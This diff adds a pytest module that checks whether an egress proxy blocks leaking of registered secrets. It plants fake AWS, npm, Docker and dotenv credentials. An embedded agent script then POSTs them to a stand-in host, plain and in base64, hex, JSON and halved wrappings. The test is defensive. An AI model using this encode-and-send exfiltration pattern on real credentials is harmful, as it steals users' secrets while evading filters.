@@ -1,0 +1,199 @@
+"""Registered values do not leave, through ``run`` and the service, and we write none of them."""
+
+from __future__ import annotations
+
+import base64
+import http.server
+import json
+import os
+import secrets
+import ssl
+import string
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from isolation_probe import run_options
+
+from aesp_proxy import keys
+from aesp_proxy.model.record import RecordKind
+from aesp_proxy.record.reader import read_state
+
+PROGRAM = Path(sys.executable).parent / "aesp-proxy"
+HOST = "origin.example"
+WAIT_S = 60.0
+POLICY = f"""\
+version: "1.2.0"
+name: registered
+guards:
+  egress_allowlist: {{default_action: block, allow: [{HOST}]}}
+  secret_leak: {{enabled: true}}
+"""
+AGENT = """
+import base64, json, os, sys, urllib.error, urllib.request as u
+def send(body):
+    try:
+        return u.urlopen(u.Request("https://origin.example/in", data=body)).status
+    except urllib.error.HTTPError as error:
+        return error.code
+values = json.loads(os.environ["GIVEN"])
+wraps = {
+    "plain": lambda v: v,
+    "base64": lambda v: base64.b64encode(b"ab" + v),
+    "hex": lambda v: v.hex().encode(),
+    "json": lambda v: json.dumps(json.dumps({"k": v.decode()})).encode(),
+    "half": lambda v: v[len(v) // 2:],
+}
+said = {f"{name}/{wrap}": send(b"before " + make(v.encode()) + b" after")
+        for name, v in values.items() for wrap, make in wraps.items()}
+said["honest"] = send(b"nothing of the kind")
+print(json.dumps(said))
+"""
+
+
+def drawn(size: int) -> str:
+    letters = string.ascii_letters + string.digits
+    return "".join(secrets.choice(letters) for _ in range(size - 2)) + "7q"
+
+
+class _Origin(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    seen = bytearray()
+
+    def do_POST(self) -> None:
+        type(self).seen += self.rfile.read(int(self.headers["Content-Length"]))
+        self.send_response(200)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@dataclass
+class Place:
+    """A policy, a home with credentials, a state directory, and an origin that remembers."""
+
+    folder: Path
+    values: dict[str, str] = field(default_factory=dict)
+
+    @property
+    def state(self) -> Path:
+        return self.folder / "state"
+
+    def run(self, *words: str, options: tuple[str, ...] = (), **environ: str):
+        own = ["--config", str(self.folder / "config.yaml"), *run_options(), *options]
+        return subprocess.run(
+            [str(PROGRAM), "run", *own, "--", *words],
+            env={"PATH": os.environ["PATH"], "HOME": str(self.folder / "home"), **environ},
+            cwd=self.folder,
+            timeout=WAIT_S,
+            check=False,
+            text=True,
+            capture_output=True,
+        )
+
+    def written(self) -> bytes:
+        """Every byte of every file in the state directory."""
+        return b"".join(p.read_bytes() for p in self.state.rglob("*") if p.is_file())
+
+
+@pytest.fixture(scope="module")
+def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    folder = tmp_path_factory.mktemp("registered")
+    now = datetime.now(UTC)
+    root_cert, root_key = keys.make_ca("the origin's roots", now=now)
+    pair = keys.KeyPair(cert_pem=root_cert, key_pem=root_key)
+    cert, key = keys.issue_leaf(pair, [HOST], purpose=keys.Purpose.SERVER, now=now, days=1)
+    (folder / "origin.pem").write_bytes(key + cert)
+    (folder / "roots.pem").write_bytes(pair.cert_pem)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(folder / "origin.pem")
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Origin)
+    server.daemon_threads = True
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    (folder / "policy.yaml").write_text(POLICY)
+    (folder / "config.yaml").write_text(
+        "policy: policy.yaml\nstate_dir: state\nupstream:\n  ca_file: roots.pem\n"
+        f"  resolve: {{'{HOST}:443': '127.0.0.1:{server.server_port}'}}\n"
+    )
+    made = Place(folder)
+    made.values = {
+        "DEPLOY_TOKEN": drawn(40), "DB_PASSWORD": drawn(14), "AWS": drawn(40), "NPM": drawn(36),
+        "DOCKER": drawn(20), "DOTENV_SECRET": drawn(32),
+    }  # fmt: skip
+    home = folder / "home"
+    for name in (".aws", ".docker"):
+        (home / name).mkdir(parents=True)
+    (home / ".aws/credentials").write_text(
+        f"[default]\naws_access_key_id = AKIA{'X' * 16}\n"
+        f"aws_secret_access_key = {made.values['AWS']}\n"
+    )
+    (home / ".npmrc").write_text(f"//registry.example/:_authToken={made.values['NPM']}\n")
+    auth = base64.b64encode(f"me:{made.values['DOCKER']}".encode()).decode()
+    (home / ".docker/config.json").write_text(json.dumps({"auths": {"r.example": {"auth": auth}}}))
+    (folder / "app.env").write_text(
+        f"PORT=8080\nexport APP_SECRET='{made.values['DOTENV_SECRET']}'\nAPI_KEY=changeme\n"
+    )
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    try:
+        yield made
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+def test_values_of_the_environment_and_of_credential_files_do_not_leave_in_any_wrapping(place):
+    values = place.values
+    ran = place.run(
+        sys.executable, "-c", AGENT,
+        options=("--secrets-from", "app.env"),
+        DEPLOY_TOKEN=values["DEPLOY_TOKEN"],
+        DATABASE_URL=f"postgres://me:{values['DB_PASSWORD']}@db.example/app",
+        DEBUG_TOKEN="true",
+        GIVEN=json.dumps(values),
+    )  # fmt: skip
+    assert ran.returncode == 0, ran.stderr
+    said = json.loads(ran.stdout.splitlines()[0])
+    assert said.pop("honest") == 200
+    # Half of a value under 36 bytes is not known.
+    short = {f"{name}/half" for name, value in values.items() if len(value) < 48}
+    passed = {name for name, status in said.items() if status != 403}
+    assert passed <= short, passed
+    assert "DEPLOY_TOKEN" in ran.stderr
+    assert "DATABASE_URL" in ran.stderr
+    assert "not registered: API_KEY" in ran.stderr
+    assert "PORT" not in ran.stderr
+    whole = ran.stderr.encode() + ran.stdout.encode() + place.written() + bytes(_Origin.seen)
+    for name, value in values.items():
+        for form in (value, base64.b64encode(value.encode()).decode(), value.encode().hex()):
+            assert form.encode() not in whole, name
+    records = [record for _, record in read_state(place.state)]
+    told = [one for one in records if one.event_type == "secrets.registered"]
+    assert "DEPLOY_TOKEN" in told[0].message
+    found = {f.rule for one in records if one.kind is RecordKind.DECISION for f in one.findings}
+    assert {"registered:DEPLOY_TOKEN", "registered:DATABASE_URL"} <= found
+
+
+def test_a_source_that_cannot_be_read_ends_the_start(place):
+    ran = place.run("true", options=("--secrets-from", "missing.env"))
+    assert ran.returncode == 3
+    assert "missing.env" in ran.stderr
+
+
+def test_nothing_is_registered_that_nobody_asked_for(place):
+    ran = place.run(
+        sys.executable, "-c", AGENT,
+        options=("--set", "secrets.env=", "--set", "secrets.sources="),
+        DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"],
+        GIVEN=json.dumps({"T": place.values["DEPLOY_TOKEN"]}),
+    )  # fmt: skip
+    assert json.loads(ran.stdout.splitlines()[0])["T/plain"] == 200
+    assert "may not leave" not in ran.stderr
